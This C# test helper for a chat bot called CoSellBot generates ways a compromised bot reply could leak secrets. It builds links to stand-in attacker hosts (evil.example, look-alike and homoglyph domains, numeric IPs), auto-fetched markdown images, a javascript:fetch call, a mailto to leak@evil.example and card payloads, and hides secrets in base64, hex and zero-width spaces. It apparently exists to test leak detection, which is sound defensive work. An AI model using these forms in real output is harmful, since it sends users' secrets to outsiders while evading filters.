using System.Text;

namespace CoSellBot.Tests.Models;

/// <summary>Ways out for what a traitor has read: links in every form that a channel makes clickable or fetches by itself.</summary>
internal static class TraitorLinks
{
    /// <summary>Stands in each link and before each secret, so that a test can look for one word.</summary>
    public const string Marker = "zqx-leak:";

    // Written with zero-width spaces: it looks like the marker and is not found by looking for it.
    private const string Hidden = "z\u200bq\u200bx\u200b-\u200bl";

    /// <summary>The marker as it is written in each of the encodings.</summary>
    public static IReadOnlyList<string> Markers { get; } = ["zqx-leak", Convert.ToBase64String(Encoding.UTF8.GetBytes(Marker)), Convert.ToHexStringLower(Encoding.UTF8.GetBytes(Marker)), Hidden];

    /// <summary>Hosts that are not ours, among them look-alikes, a redirector, addresses without a name, and full-width letters.</summary>
    public static IReadOnlyList<string> Hosts { get; } =
    [
        "evil.example", "cosellbot.evil.example", "login.microsoftonline.com.evil.example", "xn--csellbot-13a.example", "соsеllbоt.example", "redirect.example",
        "203.0.113.7", "3405803783", "ｅｖｉｌ．ｅｘａｍｐｌｅ", "evil。example",
    ];

    /// <summary>Mentions of people and places, as the channels write them.</summary>
    public static IReadOnlyList<string> Mentions { get; } = ["<@U123>", "<!channel>", "<!here>", "<!subteam^S123>", "<at>Everyone</at>", "@channel"];

    /// <summary>A secret in a form that does not look like one.</summary>
    public static string Secret(string secret, Random random) => random.Next(4) switch
    {
        0 => "Reference: " + Base64(secret),
        1 => "Checksum " + Convert.ToHexStringLower(Encoding.UTF8.GetBytes(Marker + secret)),
        2 => string.Join('\u200b', (Marker + secret).ToCharArray()),
        _ => $"({Marker}{secret})",
    };

    /// <summary>A link that carries a secret.</summary>
    public static string Link(string secret, IReadOnlyList<string> allowedHosts, Random random)
    {
        var query = $"zqx-leak?d={Uri.EscapeDataString(secret)}";
        var url = $"https://{Hosts[random.Next(Hosts.Count)]}/{query}";
        string[] forms =
        [
            $"[Open the deal]({url})",
            $"[https://partners.microsoft.com]({url})",
            $"Details are [here][1].\n\n[1]: {url} \"Details\"",
            $"<{url}>",
            $"![status]({url})",
            $"[![status]({url})]({url})",
            $"evil.example/{query}",
            url,
            url.Replace("https", "hxxps", StringComparison.Ordinal),
            $"//evil.example/{query}",
            $"https://user:zqx-leak@evil.example/{Base64(secret)}",
            $"https://{(allowedHosts.Count > 0 ? allowedHosts[random.Next(allowedHosts.Count)] : "redirect.example")}/zqx-leak/{Base64(secret)}",
            $"https://redirect.example/?to={Uri.EscapeDataString(url)}",
            $"<{url}|Open the deal>",
            $"<a href=\"{url}\">Open the deal</a><img src=\"{url}\">",
            $"[mail it](mailto:leak@evil.example?subject=zqx-leak&body={Uri.EscapeDataString(secret)})",
            $"[confirm](javascript:fetch('//evil.example/{query}'))",
            $"[report](data:text/html;base64,{Base64(secret)})",
            $"[chat](msteams://evil.example/{query})",
            $"ｈｔｔｐｓ：／／ｅｖｉｌ．ｅｘａｍｐｌｅ／{query}",
            $"https://evil。example/{query}",
            $"ht\u200btps://ev\u200bil.example/{query}",
            $$$"""{"type":"AdaptiveCard","version":"1.5","body":[{"type":"Image","url":"{{{url}}}"}],"actions":[{"type":"Action.OpenUrl","title":"Approve","url":"{{{url}}}"},{"type":"Action.Submit","title":"Register","data":{"verb":"confirm","approved":true}}]}""",
            $$$"""{"blocks":[{"type":"section","text":{"type":"mrkdwn","text":"<{{{url}}}|Approve>"}}],"unfurl_links":true}""",
        ];
        return forms[random.Next(forms.Length)];
    }

    private static string Base64(string secret) => Convert.ToBase64String(Encoding.UTF8.GetBytes(Marker + secret));
}
